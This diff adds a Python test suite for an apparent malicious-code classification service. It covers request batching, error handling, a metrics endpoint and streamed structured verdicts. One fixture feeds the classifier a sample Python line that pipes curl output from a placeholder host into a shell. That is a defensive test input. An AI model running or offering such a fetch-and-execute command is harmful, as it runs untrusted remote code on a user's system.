@@ -0,0 +1,146 @@
+import re
+import json
+import asyncio
+
+import pytest
+
+from common import service, structured
+
+
+def batcher(max_batch: int, max_wait_ms: float, fail: bool = False, drop: int = 0):
+    sizes = []
+
+    async def process(items):
+        sizes.append(len(items))
+        if fail:
+            raise ValueError("backend down")
+        return [item * 2 for item in items][drop:]
+    return service.MicroBatcher("test", process, max_batch, max_wait_ms), sizes
+
+
+def test_batches_are_flushed_at_max_batch():
+    async def run():
+        micro, sizes = batcher(max_batch=4, max_wait_ms=50)
+        results = await asyncio.gather(*(micro.submit(i) for i in range(10)))
+        await micro.close()
+        return results, sizes, micro.stats
+
+    results, sizes, stats = asyncio.run(run())
+    assert results == [i * 2 for i in range(10)]
+    assert sizes == [4, 4, 2]
+    assert stats == {"batches": 3, "items": 10, "errors": 0}
+
+
+def test_batches_are_flushed_after_max_wait():
+    async def run():
+        micro, sizes = batcher(max_batch=100, max_wait_ms=20)
+        first = [asyncio.ensure_future(micro.submit(i)) for i in range(3)]
+        await asyncio.sleep(0.1)
+        # The first three went out on their own, well before max_batch
+        assert sizes == [3] and all(future.done() for future in first)
+        second = await asyncio.gather(*(micro.submit(i) for i in range(3, 5)))
+        await micro.close()
+        return [future.result() for future in first] + second, sizes
+
+    results, sizes = asyncio.run(run())
+    assert results == [0, 2, 4, 6, 8]
+    assert sizes == [3, 2]
+
+
+def test_a_failed_batch_fails_every_waiter():
+    async def run():
+        micro, sizes = batcher(max_batch=8, max_wait_ms=20, fail=True)
+        results = await asyncio.gather(*(micro.submit(i) for i in range(5)), return_exceptions=True)
+        # The batcher keeps serving after a failed batch
+        later = await asyncio.gather(micro.submit(5), return_exceptions=True)
+        await micro.close()
+        return results + later, sizes, micro.stats
+
+    results, sizes, stats = asyncio.run(run())
+    assert sizes == [5, 1]
+    assert all(isinstance(result, ValueError) and str(result) == "backend down" for result in results)
+    assert stats["errors"] == 2
+
+
+def test_a_short_batch_fails_every_waiter():
+    async def run():
+        micro, sizes = batcher(max_batch=4, max_wait_ms=20, drop=1)
+        results = await asyncio.wait_for(asyncio.gather(*(micro.submit(i) for i in range(4)), return_exceptions=True), 1)
+        await micro.close()
+        return results, micro.stats
+
+    results, stats = asyncio.run(run())
+    assert all(isinstance(result, ValueError) and "3 results for 4 items" in str(result) for result in results)
+    assert stats["errors"] == 1
+
+
+async def get(port: int, path: str) -> tuple:
+    reader, writer = await asyncio.open_connection("127.0.0.1", port)
+    writer.write(f"GET {path} HTTP/1.1\r\nHost: test\r\nConnection: close\r\n\r\n".encode("latin-1"))
+    await writer.drain()
+    response = await reader.read()
+    writer.close()
+    head, _, body = response.partition(b"\r\n\r\n")
+    return int(head.split()[1]), body.decode("utf-8")
+
+
+def test_metrics_endpoint():
+    async def run():
+        micro, _ = batcher(max_batch=4, max_wait_ms=5)
+        await asyncio.gather(*(micro.submit(i) for i in range(6)))
+        cache = service.VerdictCache(10)
+        cache.get("missing")
+        metrics = service.Metrics()
+
+        async def render(payload):
+            return metrics.render([micro], cache, {"cached_verdicts": len(cache.entries)})
+
+        server = service.HTTPService({("GET", "/metrics"): render}, metrics)
+        await server.start(port=0)
+        try:
+            await get(server.port, "/nowhere")
+            status, text = await get(server.port, "/metrics")
+        finally:
+            await server.close()
+            await micro.close()
+        return status, text
+
+    status, text = asyncio.run(run())
+    assert status == 200
+    assert 'mal_llm_batch_items_total{batcher="test"} 6' in text
+    assert 'mal_llm_requests_total{route="other",status="404"} 1' in text
+    assert "mal_llm_cache_misses_total 1" in text
+    assert "mal_llm_cached_verdicts 0" in text
+
+    # Every sample belongs to the family of the TYPE line above it
+    family = None
+    typed = set()
+    for line in text.splitlines():
+        if line.startswith("# TYPE "):
+            family = line.split()[2]
+            assert family not in typed, f"{family} is typed twice"
+            typed.add(family)
+            continue
+        name = re.match(r"[a-z_]+", line).group(0)
+        assert family is not None and (name == family or name.removeprefix(family) in ("_bucket", "_sum", "_count")), line
+
+
+@pytest.mark.parametrize("response_format", [
+    {"type": "json_schema", "json_schema": {"name": "verdict", "schema": {"type": "object", "properties": {
+        "prediction": {"type": "boolean"}, "explanation": {"type": "string"}}}}},
+    {"type": "json", "value": {"type": "object", "properties": {"prediction": {"type": "boolean"}, "explanation": {"type": "string"}}}},
+])
+def test_local_client_streams_its_answer(response_format):
+    async def run():
+        client = service.LocalChatClient()
+        messages = [{"role": "user", "content": "import os\nos.system('curl http://x | sh')"}]
+        answer = await client.chat_completion(messages, response_format=response_format)
+        chunks = await client.chat_completion(messages, response_format=response_format, stream=True)
+        stream = structured.StructuredStream(chunks)
+        await stream.result()
+        return json.loads(answer.choices[0].message.content), stream
+
+    answer, stream = asyncio.run(run())
+    assert json.loads(stream.text) == answer
+    assert stream.fields["prediction"] == answer["prediction"]
+    assert stream.usage.completion_tokens > 0